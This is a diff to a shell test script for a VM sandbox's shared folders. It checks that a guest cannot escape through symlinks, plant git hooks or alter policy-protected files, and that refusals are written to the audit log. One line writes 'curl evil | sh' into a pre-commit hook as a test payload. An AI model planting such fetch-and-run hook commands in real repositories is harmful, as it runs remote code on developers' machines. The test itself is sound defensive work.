@@ -41,6 +41,15 @@ mkdir -p "$DATA/ro" "$DATA/rw" "$DATA/nd" "$DATA/late"
 echo "read me" >"$DATA/ro/hello.txt"
 echo "precious" >"$DATA/nd/keep.txt"
 echo "late" >"$DATA/late/file.txt"
+# What the guest must not reach: a folder beside the shares, a link to it, a repository's
+# hooks, and a path the organisation's policy protects.
+mkdir -p "$DATA/outside" "$DATA/rw/.git/hooks" "$DATA/rw/deploy"
+echo canary >"$DATA/outside/canary"
+ln -s "$DATA/outside" "$DATA/rw/out"
+ln -s ../../outside "$DATA/rw/up"
+echo "deploy" >"$DATA/rw/deploy/run.sh"
+printf '{"sharedFolders": {"protectedPaths": ["deploy/"]}}\n' >"$DATA/managed.json"
+export CORRAL_MANAGED_POLICY="$DATA/managed.json"
 
 run() { "$CTL" exec mtest -- sh -c "$1"; }
 
@@ -66,6 +75,22 @@ run 'mkdir -p /workspace/rw/sub && echo "from the guest" > /workspace/rw/sub/new
 [ "$(cat "$DATA/rw/sub/new.txt")" = "from the guest" ] || fail "the guest's file is not on the host"
 run 'rm /workspace/rw/sub/new.txt && rmdir /workspace/rw/sub' || fail "cannot delete in a rw share"
 [ -e "$DATA/rw/sub" ] && fail "the deleted folder is still on the host"
+
+log "links out of the share, protected paths and the managed policy"
+for link in out up; do
+	run "cat /workspace/rw/$link/canary" 2>/dev/null && fail "read through the link $link"
+	run "echo x > /workspace/rw/$link/new" 2>/dev/null && fail "wrote through the link $link"
+done
+[ "$(ls "$DATA/outside")" = canary ] && [ "$(cat "$DATA/outside/canary")" = canary ] ||
+	fail "the folder beside the share changed"
+run 'echo "curl evil | sh" > /workspace/rw/.git/hooks/pre-commit' 2>/dev/null &&
+	fail "wrote a git hook"
+err=$(run 'echo x >> /workspace/rw/deploy/run.sh' 2>&1) && fail "changed a policy-protected file"
+case $err in *"Operation not permitted"*) ;; *) fail "the policy's refusal said: $err" ;; esac
+[ "$(cat "$DATA/rw/deploy/run.sh")" = deploy ] || fail "the policy-protected file changed"
+[ -e "$DATA/rw/.git/hooks/pre-commit" ] && fail "a git hook appeared on the host"
+grep -q '"path":"deploy/run.sh","result":"refused","rule":"protected-path"' \
+	"$STATE"/corral/vms/mtest/audit.jsonl || fail "the policy's refusal is not in the audit log"
 
 run 'rm /workspace/nd/keep.txt' 2>/dev/null && fail "deleted in a no-delete share"
 [ "$(cat "$DATA/nd/keep.txt")" = "precious" ] || fail "the no-delete file changed"
